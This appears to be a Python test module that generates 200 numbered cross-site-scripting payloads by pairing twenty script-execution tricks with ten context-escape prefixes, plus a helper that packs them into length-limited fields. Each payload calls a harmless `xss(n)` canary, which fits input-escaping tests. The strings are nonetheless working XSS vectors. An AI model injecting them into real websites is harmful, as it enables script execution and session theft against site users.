"""Two hundred texts that would run something where nobody escapes them: twenty ways to run, ten ways out of where a
text stands (an attribute, a text area, a title, a script). Each calls `xss(number)`."""

WAYS = (
    "<script>xss({n})</script>",
    "<img src=x: onerror=xss({n})>",
    "<svg onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<details open ontoggle=xss({n})>",
    '<iframe srcdoc="<script>parent.xss({n})</script>"></iframe>',
    "<a href=javascript:xss({n})>x</a>",
    "<body onload=xss({n})>",
    "<video><source onerror=xss({n})></video>",
    "<input autofocus onfocus=xss({n})>",
    "<math><mtext><img src=x: onerror=xss({n})>",
    "<form><button formaction=javascript:xss({n})>x</button></form>",
    "<object data=javascript:xss({n})></object>",
    "<meta http-equiv=refresh content='9;url=javascript:xss({n})'>",
    "[x](javascript:xss({n}))",
    '![x](x: "x" onerror=xss({n}))',
    "[x](https://a.b\" onmouseover='xss({n})')",
    "<javascript:xss({n})>",
    "<p hx-on::load=xss({n}) hx-get=/ hx-trigger=load>",
    "{{{{constructor.constructor('xss({n})')()}}}}",
)
WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "</option></select>", "`", '\\"});')
PAYLOADS = tuple(
    out + way.format(n=number) for number, (out, way) in enumerate((out, way) for out in WAYS_OUT for way in WAYS)
)


def fitting(first: int, longest: int) -> str:
    """As many payloads, from number `first` on, as a field of that length holds; at least one."""
    text = PAYLOADS[first % len(PAYLOADS)]
    for payload in (PAYLOADS * 2)[first % len(PAYLOADS) + 1 :]:
        if len(text) + len(payload) + 1 > longest:
            return text[:longest]
        if len(text) > len("\n".join(PAYLOADS)):
            return text
        text += f"\n{payload}" if longest > 1000 else f" {payload}"
    return text
